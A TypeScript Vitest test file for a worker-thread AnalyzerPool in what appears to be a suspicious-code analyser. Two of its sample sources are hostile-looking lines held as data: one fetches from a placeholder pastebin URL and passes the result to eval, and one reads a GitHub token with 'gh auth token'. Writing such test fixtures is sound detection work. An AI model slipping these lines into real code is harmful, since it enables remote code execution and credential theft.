import { describe, expect, it } from 'vitest';
import { analyzeFile } from '../../src/code/analyze/index.js';
// the compiled pool: its worker threads run dist/code/analyze/worker.js (npm test builds first)
import { AnalyzerPool } from '../../dist/code/pool.js';

const file = (code: string) => new TextEncoder().encode(code);
const SOURCES = [
  "const https = require('https'); https.get('https://pastebin.invalid/raw/x', (r) => r.on('data', eval));",
  "const { execSync } = require('child_process'); execSync('gh auth token');",
  'module.exports = (a, b) => a + b;',
];

describe('AnalyzerPool', () => {
  it('gives, on worker threads, what analyzeFile gives in this thread', async () => {
    const pool = new AnalyzerPool(2);
    const out = await Promise.all(SOURCES.map((s, i) => pool.analyze(`f${i}.js`, file(s))));
    expect(out).toEqual(SOURCES.map((s, i) => analyzeFile(`f${i}.js`, file(s))));
    await pool.close();
  });

  it('analyses here what a stopped pool was still sent, and anything sent after', async () => {
    const pool = new AnalyzerPool(1);
    const pending = pool.analyze('a.js', file(SOURCES[0]!));
    await pool.close();
    expect(await pending).toEqual(analyzeFile('a.js', file(SOURCES[0]!)));
    expect(await pool.analyze('b.js', file(SOURCES[1]!))).toEqual(analyzeFile('b.js', file(SOURCES[1]!)));
  });
});
